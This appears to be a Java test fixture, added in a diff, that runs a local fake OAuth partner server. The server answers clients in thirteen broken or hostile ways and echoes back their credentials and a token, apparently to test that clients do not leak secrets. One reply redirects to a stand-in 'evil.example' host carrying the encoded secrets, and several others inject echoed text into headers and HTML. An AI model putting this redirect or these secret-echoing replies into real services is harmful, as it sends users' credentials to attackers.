@@ -1,0 +1,128 @@
+package dev.iris.e2e;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+
+import dev.iris.json.Json;
+import dev.iris.json.JsonValue;
+import dev.iris.partner.certificates.CertificateAuthority;
+import dev.iris.testkit.RawReply;
+import dev.iris.testkit.RawRequest;
+import dev.iris.testkit.RawTlsServer;
+import java.util.Collection;
+import java.util.Map;
+import java.util.Set;
+import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.regex.Pattern;
+import javax.net.ssl.SSLParameters;
+
+/**
+ * A partner that fails in every way, to each client in turn, and says back whatever it was sent and whatever it knows of the client.
+ * Thread-safe.
+ */
+final class TellingPartner implements AutoCloseable {
+    /** The one token that it gives. */
+    static final String TOKEN = "S3cretTokenOfThePartner";
+
+    private static final int WAYS_TO_FAIL = 13;
+    private static final Pattern ASSERTION = Pattern.compile("client_assertion=([^&]+)");
+
+    private final Map<Integer, Collection<String>> known;
+    private final Map<Integer, AtomicInteger> tokenRequests = new ConcurrentHashMap<>();
+    private final AtomicInteger segmentRequests = new AtomicInteger();
+    private final Set<String> assertions = ConcurrentHashMap.newKeySet();
+    private final RawTlsServer server;
+
+    /**
+     * Starts it.
+     *
+     * @param known what it says of each client, by the number at the end of its paths
+     */
+    TellingPartner(CertificateAuthority authority, Map<Integer, Collection<String>> known) {
+        this.known = Map.copyOf(known);
+        var parameters = new SSLParameters();
+        parameters.setWantClientAuth(true);
+        var certificate = authority.issueServer("127.0.0.1", "localhost");
+        server = RawTlsServer.start(certificate.sslContextForClientsOf(authority), parameters, this::misbehave);
+    }
+
+    String tokenEndpoint(int client) {
+        return server.url("/token/" + client).toString();
+    }
+
+    String segmentEndpoint(int client) {
+        return server.url("/segments/" + client).toString();
+    }
+
+    /** Whether every client has met every failure at its token endpoint, and so has somebody at the segment endpoint. */
+    boolean hasFailedInEveryWay() {
+        return segmentRequests.get() > WAYS_TO_FAIL
+                && known.keySet().stream().allMatch(client -> turns(client).get() > 2 * WAYS_TO_FAIL);
+    }
+
+    /** Every client assertion that came. */
+    Set<String> assertions() {
+        return Set.copyOf(assertions);
+    }
+
+    @Override
+    public void close() {
+        server.close();
+    }
+
+    private RawReply misbehave(RawRequest request) {
+        var path = request.target().split("/", -1);
+        int client = Integer.parseInt(path[2]);
+        var assertion = ASSERTION.matcher(request.body());
+        if (assertion.find()) {
+            assertions.add(assertion.group(1));
+        }
+        var echo = request.findHeader("authorization").orElse("") + " " + request.body() + " " + TOKEN + " "
+                + String.join(" ", known.getOrDefault(client, Set.of()));
+        if (!path[1].equals("token")) {
+            return failure(segmentRequests.incrementAndGet(), echo);
+        }
+        int turn = turns(client).incrementAndGet();
+        return turn % 2 == 0 ? granted() : failure(turn / 2, echo);
+    }
+
+    private AtomicInteger turns(int client) {
+        return tokenRequests.computeIfAbsent(client, _ -> new AtomicInteger());
+    }
+
+    private static RawReply failure(int turn, String echo) {
+        var quoted = Json.write(JsonValue.text(echo));
+        var line = echo.replaceAll("[^ -~]", "?");
+        return switch (turn % WAYS_TO_FAIL) {
+            case 1 -> RawReply.json(401, "{\"error\":\"invalid_client\",\"error_description\":" + quoted + "}");
+            case 2 ->
+                RawReply.answer(
+                        302, "Location: https://evil.example/?" + SecretForms.encoded(echo) + "\r\n", bytes(echo));
+            case 3 -> RawReply.gzipJson(400, "{\"error\":" + quoted + "}");
+            case 4 -> new RawReply.BytesThenReset("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nX: " + line);
+            case 5 -> new RawReply.BytesThenClose(line + "\r\n\r\n");
+            case 6 -> RawReply.json(500, quoted);
+            case 7 -> RawReply.json(200, "{\"token_type\":" + quoted + ",\"access_token\":" + quoted + "}");
+            case 8 ->
+                RawReply.answer(
+                        200,
+                        "WWW-Authenticate: " + line.strip() + "\r\nSet-Cookie: t=" + TOKEN + "\r\n",
+                        bytes("{" + echo));
+            case 9 -> new RawReply.BytesThenClose("HTTP/1.1 200 " + line + "\r\nContent-Length: 5\r\n\r\nx");
+            case 10 -> RawReply.answer(429, "Retry-After: " + TOKEN + "\r\n", bytes(echo));
+            case 11 -> RawReply.answer(401, "Content-Type: text/html\r\n", bytes("<p title='" + echo + "'>" + echo));
+            case 12 -> RawReply.json(400, "{\"error\":\"invalid_request\",\"error_description\":" + quoted + "}");
+            default -> granted();
+        };
+    }
+
+    private static RawReply granted() {
+        return RawReply.json(
+                200,
+                "{\"token_type\":\"Bearer\",\"access_token\":\"" + TOKEN + "\",\"refresh_token\":\"" + TOKEN + "\"}");
+    }
+
+    private static byte[] bytes(String text) {
+        return text.getBytes(UTF_8);
+    }
+}
